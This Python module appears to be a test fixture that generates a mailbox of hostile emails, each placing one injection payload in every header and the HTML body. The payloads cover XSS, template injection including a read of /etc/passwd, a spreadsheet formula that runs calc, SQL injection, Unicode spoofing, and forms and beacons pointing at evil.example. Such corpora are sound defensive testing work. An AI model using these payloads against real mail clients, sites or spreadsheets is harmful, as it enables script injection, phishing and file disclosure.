"""A mailbox in which every header and body is an attack on whoever shows it."""

from __future__ import annotations

import base64
import quopri

SCRIPTS = [
    "<script>document.title='owned';window.owned=1</script>",
    "</script><script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg/onload=window.owned=1>",
    '" onmouseover=window.owned=1 autofocus onfocus=window.owned=1 x="',
    "' onfocus=window.owned=1 autofocus '",
    "javascript:window.owned=1",
    "</title><script>window.owned=1</script>",
    "</textarea><script>window.owned=1</script>",
    "<iframe srcdoc='<script>parent.owned=1</script>'>",
    "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><input name=csrf><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "--><script>window.owned=1</script><!--",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "&#60;script&#62;window.owned=1&#60;/script&#62;",
    "\u003cscript\u003ewindow.owned=1\u003c/script\u003e",
]
TEMPLATES = [
    "{{ 7*7 }}{{ config }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "{{''.__class__}}",
]
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1"]
HIDDEN = ["abc\u202egnp.exe", "\u2066left\u2069", "zero\u200bwidth", "\u0000nul", "\x1b[31mred", "\u2028line",
          "\ufeffbom", "\udcff"]  # fmt: skip
LONG = ["A" * (1 << 20), "<" * (1 << 20), "\u202e" * 300_000]
SQL = ["'; DROP TABLE sessions; --", "%' OR 1=1 --"]
ALL = SCRIPTS + TEMPLATES + FORMULAS + HIDDEN + SQL + LONG


def word(text: str) -> bytes:
    """As encoded-words, which carry anything."""
    raw = text.encode("utf-8", "surrogateescape")
    if len(raw) > 10_000:
        return raw.replace(b"\x00", b"")
    return b"=?utf-8?B?" + base64.b64encode(raw) + b"?="


def attack(number: int, text: str) -> bytes:
    """One message with the same attack wherever it fits."""
    raw = text.encode("utf-8", "surrogateescape")
    short = raw.replace(b"\n", b" ").replace(b"\r", b" ")[:2_000]
    body = quopri.encodestring(
        b"<html><body><script>window.owned=1</script>" + raw[:5_000]
        + b"<a href=\"javascript:window.owned=1\">" + short + b"</a>"
        + b"<a href='http://evil.example/?" + short.replace(b"'", b"") + b"'>click</a></body></html>"
    )  # fmt: skip
    return b"\n".join(
        [
            b"Received: from " + short + b" (" + short + b" [81.2.69.160]) by " + short
            + b" with ESMTP; Mon, 5 Jan 2026 10:00:00 +0000",
            b"Authentication-Results: " + short + b"; spf=pass smtp.mailfrom=" + short,
            b"From: " + word(text) + b" <" + short.replace(b">", b"").replace(b" ", b"")[:60]
            + b"@evil.example>",
            b"To: " + word(text[:500]) + b" <you@example.com>",
            b"Reply-To: " + short + b" <r@evil.example>",
            b"Subject: " + word(text) + b" " + str(number).encode(),
            b"Message-ID: <" + short + b"@evil.example>",
            b"X-Mailer: " + short,
            b"Date: Mon, 5 Jan 2026 10:00:00 +0000",
            b"MIME-Version: 1.0",
            b"Content-Type: text/html; charset=utf-8; name=\"" + short.replace(b'"', b"") + b"\"",
            b"Content-Transfer-Encoding: quoted-printable",
            b"",
            body,
        ]
    )  # fmt: skip


def mailbox() -> list[bytes]:
    return [attack(number, text) for number, text in enumerate(ALL)]
